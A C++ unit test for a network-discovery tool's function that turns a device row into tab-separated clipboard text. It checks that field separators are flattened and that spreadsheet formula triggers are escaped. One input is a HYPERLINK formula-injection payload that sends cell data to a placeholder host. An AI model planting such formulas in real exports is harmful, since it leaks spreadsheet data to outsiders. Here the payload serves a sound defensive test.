// The clipboard text of a copied device row.
#include "discovery/row_copy_text.h"

#include <gtest/gtest.h>

namespace netsonde {
namespace {

TEST(RowCopyTextTest, OneCellPerColumnAndOneLinePerRow) {
    const DeviceRowTexts headings = {"MAC Address", "System Name", "IP Address", "Uptime",
                                     "System Description"};
    // Device texts may carry separators and may be empty; neither may shift a cell or a row.
    const DeviceRowTexts row = {"02-1f-00-0a-b3-7c", "core\tsw\r\n1", "10.0.0.9", "",
                                "line one\nline two"};
    // Texts a spreadsheet would run as formulas paste as text.
    const DeviceRowTexts formulas = {"02-1f-00-0a-b3-7d", "\tcmd", "10.0.0.8", "@x",
                                     "=HYPERLINK(\"http://x/?\"&B2,\"Update\")"};
    struct Case {
        const DeviceRowTexts* row;
        const DeviceRowTexts* headings;
        const char* text;
    };
    const Case cases[] = {
        {&row, nullptr, "02-1f-00-0a-b3-7c\tcore sw  1\t10.0.0.9\t\tline one line two"},
        {&row, &headings,
         "MAC Address\tSystem Name\tIP Address\tUptime\tSystem Description\r\n"
         "02-1f-00-0a-b3-7c\tcore sw  1\t10.0.0.9\t\tline one line two"},
        {&formulas, nullptr,
         "02-1f-00-0a-b3-7d\t' cmd\t10.0.0.8\t'@x\t'=HYPERLINK(\"http://x/?\"&B2,\"Update\")"},
    };
    for (const Case& c : cases) {
        EXPECT_EQ(RowCopyText(*c.row, c.headings), c.text);
    }
}

}  // namespace
}  // namespace netsonde
